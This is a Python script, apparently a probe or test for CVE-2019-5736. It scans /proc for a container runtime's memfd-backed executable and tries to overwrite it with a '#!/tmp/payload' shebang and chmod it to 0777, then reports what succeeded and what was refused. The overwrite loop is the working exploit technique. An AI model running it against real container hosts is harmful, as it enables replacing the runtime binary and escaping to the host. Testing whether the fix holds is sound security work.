# CVE-2019-5736: catches the runtime's own program while it starts commands, through /proc/PID/exe, and writes to it.
seconds = float(sys.argv[1])
mine = os.stat("/proc/self/exe")
end = time.monotonic() + seconds
looks, caught, read, written, refused = 0, 0, 0, 0, set()


def overwrite(fd):
    """As the exploit does: by a new descriptor of the one that is open, for as long as the program runs."""
    for flags in (os.O_WRONLY | os.O_TRUNC, os.O_RDWR, os.O_WRONLY | os.O_APPEND):
        try:
            target = os.open(f"/proc/self/fd/{fd}", flags)
        except OSError as error:
            refused.add(name(error.errno))
            continue
        try:
            os.write(target, b"#!/tmp/payload\n")
            return 1
        except OSError as error:
            refused.add(name(error.errno))
        finally:
            os.close(target)
    return 0


while time.monotonic() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        looks += 1
        try:
            fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
        except OSError as error:
            if pid == "1":
                refused.add("init " + name(error.errno))
            continue
        here = os.fstat(fd)
        if "memfd" in os.readlink(f"/proc/self/fd/{fd}"):
            caught += 1
            read += os.pread(fd, 4, 0) == b"\x7fELF"
            written += overwrite(fd)
            try:
                os.fchmod(fd, 0o777)
            except OSError as error:
                refused.add("chmod " + name(error.errno))
        os.close(fd)
print(f"looked: {looks > 100}")
print(f"caught: {caught > 0}, it was our program: {read > 0}")
print(f"written: {written}")
print("refused:", ", ".join(sorted(refused)))
